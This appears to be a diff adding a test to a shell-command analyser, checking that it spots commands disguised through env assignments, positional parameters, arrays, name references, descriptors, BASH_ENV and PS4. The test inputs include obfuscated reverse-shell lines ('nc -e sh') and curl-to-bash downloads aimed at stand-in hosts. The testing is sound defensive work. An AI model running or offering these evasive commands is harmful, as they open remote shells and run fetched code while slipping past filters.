@@ -300,6 +300,30 @@ test('tools with their own syntax, globs and shells by variable still show the c
   assert.ok(runs('cat <<EOF\n$(date)\n`nc -e sh h 1`\nEOF', 'nc') && runs('cat <<EOF\n`echo \\`nc -e sh h 1\\``\nEOF', 'nc'), 'backticks beside $(…), nested ones');
 });
 
+test('env assignments, positional parameters, arrays, name references and descriptors carry values and downloads (session 46)', () => {
+  const runs = (t: string): boolean => run(t).commands.some((c) => c.argv[0] === 'nc' && c.argv.includes('-e'));
+  for (const t of ["env x=nc bash -c '$x -e sh h 1'", "env -i x=nc sh -c '$x -e sh h 1'", 'set -- nc -e sh h 1; "$@"', 'set -- nc -e sh h 1; $1 $2 $3 $4 $5',
+    'set -- x nc -e sh h 1; shift; "$@"', 'a=(nc -e sh h 1); "${a[@]}"', 'a=(nc -e sh h 1); ${a[*]}', 'a=(ncat nc); ${a[1]} -e sh h 1', 'a=(); a+=(nc -e); "${a[@]}" sh h 1',
+    'declare -n r=x; x=nc; $r -e sh h 1', 'f(){ local -n q=$1; $q -e sh h 1; }; y=nc; f y']) assert.ok(runs(t), `${t}: ${JSON.stringify(run(t).commands.map((c) => c.argv))}`);
+  // (a quoted "$@" keeps each element one word; "$*" is one word)
+  assert.deepEqual(must(run('set -- "a b" c; printf %s "$@"'), 'printf').argv, ['printf', '%s', 'a b', 'c']);
+  assert.deepEqual(must(run('set -- a b; echo "$*" $#'), 'echo').argv, ['echo', 'a b', '2']);
+  assert.deepEqual(must(run('files=(a.py "b c.py"); python3 -m pytest "${files[@]}"'), 'python3').argv, ['python3', '-m', 'pytest', 'a.py', 'b c.py']);
+  assert.ok(!runs('set -- nc -e sh h 1; set -- echo; "$@"'), 'a later set replaces the parameters');
+  assert.ok(runs('a=(x -e sh h 1); b=nc; $b "${a[@]:1}"') && runs('set -- x nc -e sh h 1; "${@:2}"'), 'slices');
+  assert.deepEqual(must(run('a=(a b c); echo "${a[@]:1:1}" "${a[@]: -1}" "${a[-2]}"'), 'echo').argv, ['echo', 'b', 'c', 'b']);
+  for (const t of ['exec 3< <(curl -s http://x.test/a); bash <&3', 'bash 3< <(curl -s http://x.test/a) <&3', 'exec 3< <(curl -s http://x.test/a); cat <&3 | sh']) {
+    assert.ok(run(t).commands.some((c) => /^(ba)?sh$/.test(c.argv[0]!) && c.input_from.includes('curl')), `${t}: ${JSON.stringify(run(t).commands)}`);
+  }
+  assert.ok(!run('exec 3< <(seq 3); bash <&3').commands.some((c) => c.input_from.includes('curl')));
+  // what a shell reads before its command: BASH_ENV/ENV and --rcfile sourced, PS4 expanded under -x
+  for (const [t, file] of [['BASH_ENV=/tmp/.x/k.sh bash -c true', '/tmp/.x/k.sh'], ['env BASH_ENV=/dev/shm/k bash -c :', '/dev/shm/k'], ['bash --rcfile /tmp/.x/rc -i', '/tmp/.x/rc'], ['ENV=/tmp/.x/e sh -i', '/tmp/.x/e']] as const) {
+    assert.equal(must(run(t), 'source').script, file, t);
+  }
+  assert.ok(runs("PS4='$(nc -e sh h 1)' bash -xc true") && runs("PS4='`nc -e sh h 1`' bash -o xtrace -c true"), 'PS4 under -x');
+  assert.ok(!run("PS4='$(nc -e sh h 1)' bash -c true").commands.some((c) => c.argv[0] === 'nc'), 'PS4 is expanded only when tracing');
+});
+
 test('a shell or interpreter whose program is its stdin names the redirected file as its script', () => {
   assert.equal(must(run('sh < /tmp/.x/k.sh'), 'sh').script, '/tmp/.x/k.sh');
   assert.equal(must(run('cd /tmp/.x && bash -s arg < k.sh'), 'bash').script, '/tmp/.x/k.sh');
